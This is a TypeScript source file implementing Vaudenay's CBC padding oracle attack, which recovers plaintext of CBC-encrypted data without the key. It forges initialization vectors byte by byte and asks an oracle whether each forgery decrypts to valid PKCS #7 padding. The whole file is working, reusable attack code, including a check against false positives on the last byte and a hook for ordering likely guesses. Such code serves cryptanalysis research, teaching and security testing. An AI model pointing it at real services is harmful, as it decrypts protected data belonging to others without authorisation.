/**
 * Opens what is sealed with CBC and no integrity by asking whoever holds the key whether a forged value ends in PKCS #7
 * padding: Vaudenay, "Security Flaws Induced by CBC Padding", 2002. One byte at a time, from the last one on.
 */
export const BLOCK_BYTES = 16

/** Whether a block opens to a padded one under that initialization vector. */
export type IsPadded = (iv: Buffer, block: Buffer) => Promise<boolean>

/** Values of the byte before those known, the likeliest first; what is not among them is tried after. */
export type Guesses = (known: Buffer) => readonly number[]

/**
 * The plaintext of the last blocks, as far as `enough` wants: `sealed` is the initialization vector and the blocks.
 *
 * @throws Error `[oracle_silent]` where no value of a byte is padded: the answers are not those of an oracle.
 */
export async function openFromTheEnd(
  sealed: Buffer,
  isPadded: IsPadded,
  { guesses, enough }: { guesses: Guesses; enough: (known: Buffer) => boolean },
): Promise<Buffer> {
  let known: Buffer = Buffer.alloc(0)
  for (let at = sealed.length - BLOCK_BYTES; at >= BLOCK_BYTES; at -= BLOCK_BYTES) {
    const before = sealed.subarray(at - BLOCK_BYTES, at)
    const block = sealed.subarray(at, at + BLOCK_BYTES)
    /** What the block cipher makes of the block, from the last byte on: plaintext and the block before it, together. */
    const opened = Buffer.alloc(BLOCK_BYTES)
    for (let index = BLOCK_BYTES - 1; index >= 0; index -= 1) {
      if (enough(known)) return known
      const byte = await byteAt(index)
      opened[index] = byte ^ before[index]!
      known = Buffer.concat([Buffer.of(byte), known])
    }

    async function byteAt(index: number): Promise<number> {
      const likely = guesses(known)
      const padding = BLOCK_BYTES - index
      for (const guess of new Set([...likely, ...Array.from({ length: 256 }, (_, value) => value)])) {
        const iv = Buffer.alloc(BLOCK_BYTES)
        for (let each = index + 1; each < BLOCK_BYTES; each += 1) iv[each] = opened[each]! ^ padding
        iv[index] = guess ^ before[index]! ^ padding
        if (!(await isPadded(iv, block))) continue
        if (index < BLOCK_BYTES - 1) return guess
        // It may have ended in 2 2 already: another byte before it says.
        iv[index - 1]! ^= 1
        if (await isPadded(iv, block)) return guess
      }
      throw new Error(`[oracle_silent] byte ${index} of the block at ${at}: no value of it is padded`)
    }
  }
  return known
}
